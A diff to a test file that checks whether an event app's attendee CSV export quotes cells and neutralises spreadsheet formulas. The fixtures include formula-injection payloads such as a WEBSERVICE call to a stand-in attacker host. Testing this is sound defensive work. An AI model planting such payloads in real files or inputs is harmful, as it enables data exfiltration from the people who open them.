@@ -62,11 +62,24 @@ describe('event text in public answers', () => {
 
   it('CSV cells are quoted and formulas neutralised after any separator (finding 14)', async () => {
     const event = await createEvent(master)
-    for (const [name, company] of [
-      ['Ann;=1+1', 'Acme;=WEBSERVICE("http://evil.example")'],
-      ['Tab\t@SUM(A1)', 'Comma,+1'],
-    ])
-      expect((await master.post(`/api/events/${event.id}/attendees`, attendee({ name, company }))).status).toBe(201)
+    const ann = attendee({ name: 'Ann;=1+1', company: 'Acme;=WEBSERVICE("http://evil.example")' })
+    expect((await master.post(`/api/events/${event.id}/attendees`, ann)).status).toBe(201)
+    // Names are one line now (issue 44): a TAB can only be in a row stored before, written here as such.
+    const now = new Date().toISOString()
+    await server.payload.db.create({
+      collection: 'attendees',
+      data: {
+        event: event.id,
+        name: 'Tab\t@SUM(A1)',
+        email: 'tab.row@example.com',
+        emailKey: 'tab.row@example.com',
+        company: 'Comma,+1',
+        status: 'registered',
+        rowKey: 'legacy',
+        createdAt: now,
+        updatedAt: now,
+      },
+    })
     const csv = await master.get(`/api/events/${event.id}/attendees/download`)
     expect(csv.text).toContain(`"Ann;'=1+1",`)
     expect(csv.text).toContain(`"Acme;'=WEBSERVICE(""http://evil.example"")"`)
